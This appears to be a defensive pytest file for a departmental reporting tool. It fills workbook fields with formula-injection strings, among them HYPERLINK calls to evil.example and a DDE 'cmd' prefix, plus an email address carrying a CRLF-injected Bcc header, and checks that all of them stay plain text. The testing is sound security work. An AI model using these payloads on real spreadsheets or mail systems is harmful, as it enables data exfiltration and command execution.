"""Whatever a department writes stays text: in workbooks, papers, mails, texts to paste."""

from __future__ import annotations

import email
import email.policy
import re
from pathlib import Path

import pytest
from support import calc, live
from support.attacks import SETTINGS, parts
from support.office import PENDING_LIST, Filled, Office, pending_rows, run

EVIL = "evil.example"
# First characters by which Excel, WPS or Calc take a typed text, or one of a CSV file, for a formula.
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    " =",
    "=cmd|' /C calc'!A0+",
    "@SUM(1)*",
)
FREE = ("progress", "problems", "next", "evidence")


def hostile(number: int) -> str:
    """Return a text that would call home, were it a formula."""
    return f'{STARTS[number % len(STARTS)]}HYPERLINK("http://{EVIL}/"&A1,"第{number}处")'


def fill_hostile(filled: Filled) -> None:
    """Fill every field of a department with a text that begins like a formula."""
    cells = [filled.cell(task, name) for task in filled.tasks for name in FREE]
    for number, cell in enumerate([*cells, *(filled.person(label) for label in ("填报人", "联系电话", "审核人"))]):
        cell.value = "x"
        cell.value = hostile(number)
        cell.data_type = "s"
    first = next(iter(filled.tasks))
    # Not one of the states, so that the office is asked.
    filled.cell(first, "state").value = "x"
    filled.cell(first, "state").value = hostile(0)
    filled.cell(first, "state").data_type = "s"


def assert_no_formula(path: Path) -> None:
    """Assert that nothing that departments wrote is run, or links anywhere, in a workbook or a Word paper."""
    for name, part in parts(path):
        text = part.decode("utf-8", "replace")
        if name.endswith(".rels"):
            assert EVIL not in text, (path, name)
        for found in re.findall(r"<(?:\w+:)?(?:f|formula\d?|instrText|definedName)[ >].*?</|<w:fldSimple[^>]*>", text):
            assert EVIL not in found, (path, name, found)


@pytest.fixture(scope="module")
def hostile_office(tmp_path_factory: pytest.TempPathFactory) -> Office:
    works = Office.small(
        tmp_path_factory.mktemp("hostile"), settings=SETTINGS, emails={"教育科": "a@b.cn", "一小": "c@d.cn"}
    )
    works.do("split")
    for department in ("教育科", "组宣科"):
        works.answer(department, edit=fill_hostile)
    # The office is told of each.
    merged = works.json("merge")["files"]
    assert all("return-formula-text" in {reason["code"] for reason in file["reasons"]} for file in merged)
    assert pending_rows(works)
    for verb in ("status", "remind"):
        assert works.do(verb).code in (0, 1)
    assert run("yearly", works.book).code == 0
    # What was reported stands in the sheets of the next round.
    assert Office(works.book, "2023年第三季度").do("split").code in (0, 1)
    return works


class TestTextsLikeFormulas:
    """Whatever a department writes stays text, in every file that is written."""

    def written(self, hostile_office: Office, *suffixes: str) -> list[Path]:
        found = [
            each
            for place in ("下发", "退回", "汇总")
            for each in (hostile_office.root / place).rglob("*")
            if each.suffix in suffixes
        ]
        assert found
        return found

    def test_no_workbook_and_no_paper_has_it_as_a_formula_or_a_link(self, hostile_office: Office) -> None:
        holding = 0
        for path in self.written(hostile_office, ".xlsx", ".docx"):
            assert_no_formula(path)
            holding += any(EVIL.encode() in part for _, part in parts(path))
        # The status, the list of what is open, the sheets sent back and those of the next round show what was written.
        assert holding >= 5

    def test_calc_shows_it_as_text(self, hostile_office: Office, tmp_path: Path, needs_calc: None) -> None:
        reports = hostile_office.root / "汇总" / hostile_office.round
        sheets = [
            reports / "进展汇总.xlsx",
            reports / PENDING_LIST,
            *(hostile_office.root / "退回" / hostile_office.round).glob("*.xlsx"),
        ]
        assert len(sheets) > 2
        for opened in calc.convert_many(sheets, "fods", tmp_path):
            text = opened.read_text("utf-8")
            assert EVIL in text
            assert not [each for each in re.findall(r'table:formula="[^"]*"', text) if EVIL in each]
            assert not [each for each in re.findall(r'xlink:href="[^"]*"', text) if EVIL in each]

    def test_the_page_as_pdf_shows_text_without_links(
        self, hostile_office: Office, tmp_path: Path, needs_calc: None
    ) -> None:
        page = calc.convert(hostile_office.root / "汇总" / hostile_office.round / "进展汇总.xlsx", "pdf", tmp_path)
        assert f"/URI (http://{EVIL}".encode() not in page.read_bytes()

    def test_no_text_for_pasting_has_a_line_that_begins_so(self, hostile_office: Office) -> None:
        lines = [
            line for path in self.written(hostile_office, ".txt") for line in path.read_text("utf-8-sig").splitlines()
        ]
        assert not [line for line in lines if EVIL in line and line.startswith(STARTS)]

    def test_mails_are_plain_text_to_the_one_they_are_for(self, hostile_office: Office) -> None:
        for path in self.written(hostile_office, ".eml"):
            mail = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
            assert set(mail.keys()) <= {
                "X-Unsent",
                "To",
                "Subject",
                "MIME-Version",
                "Content-Type",
                "Content-Transfer-Encoding",
            }
            assert {part.get_content_type() for part in mail.walk()} <= {
                "multipart/mixed", "text/plain", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            }  # fmt: skip


def test_the_buttons_write_it_as_text_into_the_open_workbook(tmp_path: Path, needs_calc: None) -> None:
    """In a real Calc: Excel is told the same way (a leading apostrophe), and cannot run here."""
    with live.running(tmp_path / "profile") as app:
        path = live.in_an_office(tmp_path)
        book = app.books.open(path)
        live.done(book, "split")
        for number, department in enumerate(("教育科", "组宣科", "进修学校")):
            live.answer(path, department, **{name: hostile(number * 4 + at) for at, name in enumerate(FREE)})
        for verb in ("merge", "status"):
            live.press(book, verb, live.TAKEN_IN)
        shown = 0
        for sheet in book.sheets:
            used = sheet.used_range
            values = used.value if isinstance(used.value, list) else [[used.value]]
            formulas = used.formula if isinstance(used.formula, list | tuple) else [[used.formula]]
            cells = used.api.queryFormulaCells(7).getRangeAddresses()
            for area in cells:
                for row in range(area.StartRow, area.EndRow + 1):
                    for column in range(area.StartColumn, area.EndColumn + 1):
                        assert EVIL not in sheet.api.getCellByPosition(column, row).getFormula()
            shown += sum(EVIL in str(value) for row in values for value in (row if isinstance(row, list) else [row]))
            assert formulas is not None
        assert shown > 3


def test_a_line_break_in_an_address_begins_no_header(tmp_path: Path) -> None:
    works = Office.small(
        tmp_path,
        settings=SETTINGS,
        emails={"教育科": "a@b.cn\r\nBcc: evil@evil.example", "组宣科": "c@d.cn,x\x7f@y.cn"},
    )
    works.do("split")
    mails = list((works.handed_out / "通知").glob("*.eml"))
    assert mails
    for path in mails:
        mail = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        assert "Bcc" not in mail
